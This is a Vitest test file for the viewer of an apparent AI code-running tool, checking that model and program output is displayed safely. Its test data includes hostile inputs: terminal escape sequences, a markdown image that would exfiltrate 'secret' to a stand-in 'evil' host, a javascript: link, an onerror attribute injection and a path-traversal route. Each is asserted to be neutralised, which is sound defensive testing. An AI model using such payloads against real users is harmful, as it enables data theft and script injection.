import { describe, expect, test } from 'vitest';
import type { Display } from '../src/api/types';
import { t } from '../src/i18n/index.svelte';
import { afterOutput, emptyLive } from '../src/run/model';
import { readReply } from '../src/run/reply';
import { withEvidence } from '../src/run/evidence';
import { difference } from '../src/text/difference';
import { shownOf } from '../src/text/display';
import { highlightPython } from '../src/text/highlight';
import { readMarkdown } from '../src/text/markdown';
import { oneLine, plainOutput, visible } from '../src/text/plain';
import { svgSize } from '../src/text/svg';
import { readTable, sortedRows } from '../src/text/table';
import { links, readRoute } from '../src/router.svelte';
import { stepsOf } from './fixtures';

describe('text of programs', () => {
  test('E5: commands to a terminal are taken out', () => {
    expect(plainOutput('\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b[1A\x9b31m\x1b]8;;http://evil\x07ok\x1b]8;;\x07')).toBe('ok');
    expect(plainOutput('a\x1bPq#0\x1b\\b\x00\x08c')).toBe('abc');
  });
  test('what was written over is gone', () => {
    expect(plainOutput('10%\r50%\r100%\nnext\r\n')).toBe('100%\nnext\n');
  });
  test('E6: bidirectional, invisible and tag characters are written out', () => {
    const text = 'ac\u202ecess\u200b = "\u{e0041}"';
    expect(
      visible(text)
        .map((piece) => piece.text)
        .join(''),
    ).toBe('ac\\u{202e}cess\\u{200b} = "\\u{e0041}"');
    expect(visible(text).filter((piece) => piece.hidden)).toHaveLength(3);
    expect(visible('plain 文字 é 🙂')).toEqual([{ text: 'plain 文字 é 🙂', hidden: false }]);
    const shown = highlightPython('x = 1 # \u202e').flat();
    expect(shown.some((piece) => piece.style === 'hidden-character' && piece.text === '\\u{202e}')).toBe(true);
  });
  test('a line for a list is one', () => {
    expect(oneLine('a\n b\tc  d')).toBe('a b c d');
    expect(oneLine('x'.repeat(300))).toHaveLength(160);
  });
});

describe('code', () => {
  test('comes whole out of the colours', () => {
    const code = 'def f(x):\n    """doc"""\n    return x + 1.5  # why\n\nprint(f"{x}")\n';
    const lines = highlightPython(code);
    expect(lines.map((line) => line.map((piece) => piece.text).join('')).join('\n')).toBe(code);
    expect(lines[0]?.find((piece) => piece.text === 'def')?.style).toBe('k');
  });
  test('difference of lines', () => {
    expect(difference('a\nb\nc', 'a\nx\nc').map((line) => `${line.kind[0]}${line.text}`)).toEqual([
      'sa',
      'rb',
      'ax',
      'sc',
    ]);
    expect(difference('same', 'same')).toEqual([{ kind: 'same', text: 'same' }]);
  });
});

describe('answers', () => {
  test('E8: images and links stay text', () => {
    const [block] = readMarkdown('![](https://evil/?d=secret) [x](javascript:alert(1)) <img src=x>');
    expect(block).toEqual({
      kind: 'paragraph',
      inside: [{ kind: 'text', text: '![](https://evil/?d=secret) [x](javascript:alert(1)) <img src=x>' }],
    });
  });
  test('lists, tables, code, emphasis', () => {
    const kinds = readMarkdown(
      '# T\n\nA **b** `c`\n\n- x\n- y\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx\n```',
    ).map((block) => block.kind);
    expect(kinds).toEqual(['heading', 'paragraph', 'list', 'table', 'code']);
  });
  test('formulas, but not amounts of money', () => {
    const formulas = (text: string) =>
      readMarkdown(text).flatMap((block) =>
        block.kind === 'math'
          ? [block.text]
          : 'inside' in block
            ? block.inside.flatMap((part) => (part.kind === 'math' ? [part.text] : []))
            : [],
      );
    expect(formulas('So $\\bar{x} = 4$ and $n$, with \\(a + b\\).')).toEqual(['\\bar{x} = 4', 'n', 'a + b']);
    expect(formulas('Sum:\n$$\n\\sum_i x_i\n$$\nand \n\\[ y^2 \\]\nend')).toEqual(['\\sum_i x_i', 'y^2']);
    expect(formulas('From $5 to $10, $3 million, US$4 and $7; a $PATH and 5$ each, 6$.')).toEqual([]);
    expect(formulas('`$x_1$` and \\$x_1$')).toEqual([]);
    expect(readMarkdown('$$ x').map((block) => block.kind)).toEqual(['math']);
  });
  test('a value has its evidence where it stands, and not inside of a longer one', () => {
    const evidence = [
      { value: '42', seen: { kind: 'output' as const, step: 1, line: '42', rounded: false } },
      { value: '421.5' },
    ];
    const pieces = withEvidence('It is 42, not 421.5, 1421 or 0.42.', evidence);
    expect(pieces.filter((piece) => piece.evidence).map((piece) => piece.text)).toEqual(['42', '421.5']);
    expect(pieces.map((piece) => piece.text).join('')).toBe('It is 42, not 421.5, 1421 or 0.42.');
  });
});

describe('replies, before the service says how they were understood', () => {
  test('in each dialect', () => {
    const code = { tool: 'python', arguments: { code: 'print(1)' } };
    expect(readReply('fenced_code', 'So.\n```python\nprint(1)\n```\n', [])).toEqual({
      thought: 'So.',
      calls: [code],
      answer: null,
    });
    expect(readReply('fenced_code', 'So.\nFINAL: 42', [])).toEqual({ thought: 'So.', calls: [], answer: '42' });
    expect(readReply('json_action', '{"thought":"So.","action":"execute_code","code":"print(1)"}', [])).toEqual({
      thought: 'So.',
      calls: [code],
      answer: null,
    });
    expect(readReply('tags', 'So.\n<execution-code>\nprint(1)\n</execution-code>', [])).toEqual({
      thought: 'So.',
      calls: [code],
      answer: null,
    });
    expect(readReply('native_tools', 'So.', [{ name: 'python', arguments: '{"code":"print(1)"}' }])).toEqual({
      thought: 'So.',
      calls: [code],
      answer: null,
    });
  });
  test('as far as they have come', () => {
    expect(
      readReply('native_tools', '', [{ name: 'python', arguments: '{"code": "a\\nb' }]).calls[0]?.arguments['code'],
    ).toBe('a\nb');
    expect(readReply('fenced_code', 'So.\n```python\npri', []).calls[0]?.arguments['code']).toBe('pri');
    expect(readReply('json_action', '{"thought": "Let me', []).thought).toBe('Let me');
  });
});

describe('tables', () => {
  const table = readTable(
    JSON.stringify({
      columns: [{ name: 'n', dtype: 'int' }],
      index: [0, 1, 2],
      rows: [[10], [null], [9]],
      total_rows: 3,
    }),
  );
  test('are sorted by numbers, what is missing last', () => {
    if (!table) throw new Error('no table');
    expect(sortedRows(table, { column: 0, descending: false })).toEqual([2, 0, 1]);
    expect(sortedRows(table, { column: 0, descending: true })).toEqual([0, 2, 1]);
    expect(sortedRows(table, null)).toEqual([0, 1, 2]);
  });
  test('that are none are refused', () => {
    for (const bad of ['', 'null', '{}', '{"columns": 3, "rows": []}', '[1]']) expect(readTable(bad)).toBeNull();
    const odd = readTable('{"columns": [{"name": {"a": 1}}], "rows": [[{"b": 2}], 7]}');
    expect(odd?.rows).toEqual([['[object Object]']]);
  });
});

describe('displays', () => {
  const png = (width: number, height: number): string => {
    const bytes = new Uint8Array(33);
    new DataView(bytes.buffer).setUint32(16, width);
    new DataView(bytes.buffer).setUint32(20, height);
    return btoa(String.fromCharCode(...bytes));
  };
  const one = (mime: string, data: object): Display => ({ parts: [{ mime, ...data }] });
  test('E9: an image of ten thousand million pixels is not shown', () => {
    expect(shownOf(one('image/png', { base64: png(100, 100) }))?.kind).toBe('image');
    expect(shownOf(one('image/png', { base64: png(100_000, 100_000) }))?.kind).toBe('too_large');
    expect(shownOf(one('text/html', { text: 'x'.repeat(4_000_000) }))?.kind).toBe('too_large');
  });
  test('a real frame is a table, a real figure an image', () => {
    const { steps } = stepsOf('region');
    const kinds = steps.flatMap((step) =>
      step.calls.flatMap((call) => (call.outcome?.displays ?? []).map((display) => shownOf(display)?.kind)),
    );
    expect(kinds).toEqual(['table', 'table', 'image']);
  });
  test('an address in an image can not leave it', () => {
    const shown = shownOf(one('image/png', { base64: `${png(1, 1)}" onerror="x` }));
    expect(shown?.kind === 'image' && /["' ]/.test(shown.source)).toBe(false);
  });
});

test('routes', () => {
  expect(readRoute('')).toEqual({ page: 'ask' });
  expect(readRoute('#/runs/a-b')).toEqual({ page: 'run', id: 'a-b' });
  expect(readRoute('#/compare/a,b,a,c')).toEqual({ page: 'compare', ids: ['a', 'b', 'c'] });
  expect(readRoute(links.compare(['a', 'b%2']))).toEqual({ page: 'compare', ids: ['a', 'b%2'] });
  expect(readRoute('#/runs/a/beside/b')).toEqual({ page: 'compare', ids: ['a', 'b'] });
  for (const bad of ['#/compare', '#/compare/a', '#/compare/a,a', '#/compare/a,b,c,d,e,f,g']) {
    expect(readRoute(bad)).toEqual({ page: 'unknown' });
  }
  expect(readRoute('#/sessions/%2e%2e')).toEqual({ page: 'session', id: '..' });
  expect(readRoute('#/nowhere')).toEqual({ page: 'unknown' });
});

test('an SVG says how large it is, within bounds', () => {
  const size = (attributes: string) => svgSize(`<?xml version="1.0"?><svg ${attributes}><rect/></svg>`);
  expect(size('width="460.8pt" height="345.6pt" viewBox="0 0 460.8 345.6"')).toEqual({ width: 614, height: 461 });
  expect(size('viewBox="0 0 100 300"')).toEqual({ width: 700, height: 2000 });
  expect(size('width="100" viewBox="0 0 10 20"')).toEqual({ width: 100, height: 200 });
  expect(size('width="100%" height="50%"')).toEqual({ width: 700, height: 420 });
  expect(size('width="1e9" height="-3"')).toEqual({ width: 700, height: 420 });
  expect(svgSize('no svg')).toEqual({ width: 700, height: 420 });
});

test('live output keeps its newest lines', () => {
  let live = emptyLive();
  for (let at = 0; at < 30_000; at += 1) live = afterOutput(live, { stream: 'stdout', text: `line ${at}\n` });
  live = afterOutput(live, { stream: 'stderr', text: 'warned\n' });
  live = afterOutput(live, { stream: 'stdout', text: 'the end\n' });
  const text = live.parts.map((part) => part.text).join('');
  expect(text).toMatch(/^line \d+\n[^]*line 29999\nwarned\nthe end\n$/);
  expect(text.length).toBeLessThan(200_000);
  expect(live.truncated).toBe(true);
});

test('one is one, and the rest are several', () => {
  expect(t('sessions.cells', { count: 1 })).toBe('1 cell');
  expect(t('sessions.cells', { count: 0 })).toBe('0 cells');
  expect(t('ask.rows', { rows: '1,200', columns: 1 })).toBe('1,200 rows, 1 column');
});
